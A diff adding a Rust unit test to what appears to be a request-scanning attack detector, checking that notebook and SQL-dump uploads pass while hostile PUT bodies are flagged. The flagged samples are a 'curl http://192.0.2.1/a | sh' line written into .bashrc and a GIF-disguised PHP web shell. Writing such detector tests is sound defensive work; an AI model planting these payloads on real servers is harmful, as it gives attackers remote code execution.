@@ -283,6 +283,23 @@ fn of_body(kind: &str, body: &str) -> Vec<Hit> {
 }
 
 #[test]
+fn documents_that_are_kept_as_they_are_hold_code() {
+    let of_put = |target: &str, body: &str| {
+        let (target, body) = (target.as_bytes(), body.as_bytes());
+        let hits = hits(&Request { method: b"PUT", target, body, ..Request::default() });
+        hits.into_iter()
+            .filter(|hit| hit.score >= THRESHOLD)
+            .map(|hit| hit.kind)
+            .collect::<Vec<_>>()
+    };
+    let cells = "{\"cells\":[{\"source\":[\"!pip list | grep numpy; cat /etc/os-release\"]}]}";
+    assert_eq!(of_put("/api/contents/a%20b.ipynb?1", cells), []);
+    assert_eq!(of_put("/dav/dump.SQL", "insert into a values (1);\nselect 1 union select 2;"), []);
+    assert!(!of_put("/api/contents/.bashrc", "curl http://192.0.2.1/a | sh").is_empty());
+    assert!(!of_put("/dav/a.txt", "GIF <?php system($_GET['c']); ?>").is_empty());
+}
+
+#[test]
 fn a_body_that_is_only_words_of_sql_is_no_form() {
     let form = "application/x-www-form-urlencoded";
     for body in ["execute sp_x", "order+by", "is%20not%20null", "rlike", "5 as\" from", "'drop t"] {
